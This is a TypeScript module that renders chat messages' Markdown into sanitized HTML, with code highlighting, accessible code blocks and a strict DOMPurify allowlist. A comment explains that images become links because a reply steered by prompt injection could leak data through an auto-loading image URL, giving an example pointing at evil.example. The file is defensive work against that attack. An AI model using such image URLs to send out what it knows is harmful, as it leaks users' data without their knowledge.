import DOMPurify from 'dompurify'
import hljs from 'highlight.js/lib/core'
import bash from 'highlight.js/lib/languages/bash'
import css from 'highlight.js/lib/languages/css'
import javascript from 'highlight.js/lib/languages/javascript'
import json from 'highlight.js/lib/languages/json'
import markdown from 'highlight.js/lib/languages/markdown'
import python from 'highlight.js/lib/languages/python'
import sql from 'highlight.js/lib/languages/sql'
import typescript from 'highlight.js/lib/languages/typescript'
import xml from 'highlight.js/lib/languages/xml'
import MarkdownIt from 'markdown-it'

// Message text (a model's reply, or what a person typed) as HTML: markdown-it without raw
// HTML, code highlighted by a handful of highlight.js languages (the core build keeps the
// bundle small; other languages show as plain code), then DOMPurify as the last word on
// what reaches the page.

hljs.registerLanguage('javascript', javascript)
hljs.registerLanguage('typescript', typescript)
hljs.registerLanguage('python', python)
hljs.registerLanguage('json', json)
hljs.registerLanguage('bash', bash)
hljs.registerLanguage('xml', xml)
hljs.registerLanguage('css', css)
hljs.registerLanguage('sql', sql)
hljs.registerLanguage('markdown', markdown)
hljs.registerAliases(['shell', 'console', 'zsh'], { languageName: 'bash' })

/** The words the rendered HTML carries itself (the copy button of each code block). */
export interface MarkdownLabels {
  /** The copy button's visible text. */
  copy: string
  /** Its accessible name (contains `copy`, so speech input finds it by what it shows). */
  copyCode: string
}

const md = new MarkdownIt({ html: false, linkify: true, breaks: true })
const { escapeHtml } = md.utils

// Code blocks (fenced or indented): a header with the language and a copy button (the
// component listens for clicks on `[data-copy]`); the <pre> is focusable because it
// scrolls sideways, and a keyboard must be able to scroll it.
md.renderer.rules.fence = md.renderer.rules.code_block = (tokens, idx, _options, env: MarkdownLabels) => {
  const token = tokens[idx]!
  const language = token.info.trim().split(/\s+/)[0]?.toLowerCase() ?? ''
  const known = language !== '' && hljs.getLanguage(language) !== undefined
  const code = known ? hljs.highlight(token.content, { language, ignoreIllegals: true }).value : escapeHtml(token.content)
  return `<div class="code-block"><div class="code-head"><span class="code-lang">${escapeHtml(language)}</span>`
    + `<button type="button" class="code-copy" data-copy aria-label="${escapeHtml(env.copyCode)}">${escapeHtml(env.copy)}</button></div>`
    + `<pre tabindex="0"><code class="hljs">${code}</code></pre></div>\n`
}

// Wide tables scroll inside their own box (focusable, for the keyboard) instead of the page.
md.renderer.rules.table_open = () => '<div class="table-scroll" tabindex="0"><table>\n'
md.renderer.rules.table_close = () => '</table></div>\n'

// Column alignment as a class: the app's CSP (style-src 'self') refuses style attributes.
for (const rule of ['th_open', 'td_open'] as const) {
  md.renderer.rules[rule] = (tokens, idx, options, _env, self) => {
    const token = tokens[idx]!
    const align = /text-align:(\w+)/.exec(token.attrGet('style') ?? '')?.[1]
    token.attrs = align ? [['class', `align-${align}`]] : null
    return self.renderToken(tokens, idx, options)
  }
}

// No pictures from message text: an image loads the moment the message shows, so a reply
// steered by a prompt injection could send what it knows to any server in the URL
// (`![](https://evil.example/?q=…)`) without anyone clicking. It becomes a link instead.
md.renderer.rules.image = (tokens, idx) => {
  const token = tokens[idx]!
  const src = token.attrGet('src') ?? ''
  const text = token.content || src
  return `<a href="${escapeHtml(src)}">${escapeHtml(text)}</a>`
}

const purifier = DOMPurify(window)
// Every link opens a new tab that cannot reach back to this page, and tells nobody where it came from.
purifier.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A' && node.hasAttribute('href')) {
    node.setAttribute('target', '_blank')
    node.setAttribute('rel', 'noopener noreferrer')
  }
})

/** Exactly what the renderer above makes, nothing else. */
const PURIFY_CONFIG = {
  ALLOWED_TAGS: [
    'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'em', 'strong', 's', 'a', 'code', 'pre', 'span',
    'ul', 'ol', 'li', 'blockquote', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'div', 'button',
  ],
  ALLOWED_ATTR: ['href', 'class', 'start', 'type', 'tabindex', 'aria-label', 'data-copy'],
  // http(s), mailto and relative links only.
  ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i,
}

/** Sanitized HTML of a message's Markdown. */
export function renderMarkdown(source: string, labels: MarkdownLabels): string {
  return purifier.sanitize(md.render(source, labels), PURIFY_CONFIG)
}
